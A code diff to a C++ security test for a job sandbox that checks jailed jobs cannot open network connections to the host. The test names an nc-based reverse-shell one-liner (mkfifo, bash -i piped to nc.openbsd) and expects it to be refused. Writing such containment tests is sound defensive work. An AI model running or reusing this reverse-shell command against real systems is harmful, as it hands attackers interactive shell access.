@@ -13,6 +13,7 @@
 
 #include "executor/namespace/namespace_executor.h"
 #include "executor/namespace/test_root.h"
+#include "tests/security/attack_backend.h"
 #include "runner/base/temp_dir.h"
 #include "runner/base/unique_fd.h"
 #include "runner/network/job_network.h"
@@ -52,14 +53,15 @@ class AnyAddressListener {
 class JobNetworkAttack : public ::testing::Test {
   protected:
     void SetUp() override {
-        NIXJAIL_REQUIRE_JAIL();
+        NIXJAIL_REQUIRE_ATTACK_BACKEND();
+        executor_ = testing::makeAttackExecutor();
         if (::access("/usr/bin/nc.openbsd", X_OK) != 0) {
             const char* strict = std::getenv("NIXJAIL_TESTS_STRICT");
             if (strict && std::string(strict) == "1")
                 FAIL() << "needs nc (apt-get install netcat-openbsd)";
             GTEST_SKIP() << "needs nc (apt-get install netcat-openbsd)";
         }
-        root_ = std::make_unique<testing::TestRoot>(executor_);
+        root_ = std::make_unique<testing::TestRoot>(ns_);
         network_ = std::make_unique<runner::network::JobNetwork>(
             runner::network::NetworkSettings{},
             runner::network::JobNetworkSpec{.job_id = "attack",
@@ -69,7 +71,7 @@ class JobNetworkAttack : public ::testing::Test {
         auto spec = root_->spec("security-net-" + std::to_string(::getpid()) + "-" +
                                 std::to_string(std::random_device{}()));
         spec.netns_fd = network_->netnsFd();
-        jail_ = executor_.prepare(spec);
+        jail_ = executor_->prepare(spec);
     }
 
     // Runs a shell command in the job's jail; returns its merged output.
@@ -90,7 +92,8 @@ class JobNetworkAttack : public ::testing::Test {
     std::string proxy() const { return "127.0.0.1:" + std::to_string(network_->proxyPort()); }
 
     base::TempDir dir_{"nixjail-security-net-"};
-    NamespaceExecutor executor_;
+    NamespaceExecutor ns_;  // the step's host ids, which both backends use by default
+    std::unique_ptr<Executor> executor_;
     std::unique_ptr<testing::TestRoot> root_;
     std::unique_ptr<runner::network::JobNetwork> network_;
     std::unique_ptr<Jail> jail_;
@@ -125,8 +128,8 @@ TEST_F(JobNetworkAttack, ReverseShellWithNcFailsDirectlyAndThroughTheProxy) {
     AnyAddressListener listener;
     for (const auto& ip : nixjail::tests::hostIPv4Addresses()) {
         auto direct =
-            sh("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | bash -i 2>&1 | nc.openbsd -v -w 3 " + ip +
-               " " + listener.port() + " > /tmp/f; echo nc-exit=${PIPESTATUS[2]}");
+            sh("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | bash -i 2>&1 | { nc.openbsd -v -w 3 " +
+               ip + " " + listener.port() + " > /tmp/f; echo nc-exit=$? >&2; }");
         EXPECT_NE(direct.find("nc-exit=1"), std::string::npos) << ip << ": " << direct;
         EXPECT_TRUE(direct.find("Connection refused") != std::string::npos ||
                     direct.find("Network is unreachable") != std::string::npos)
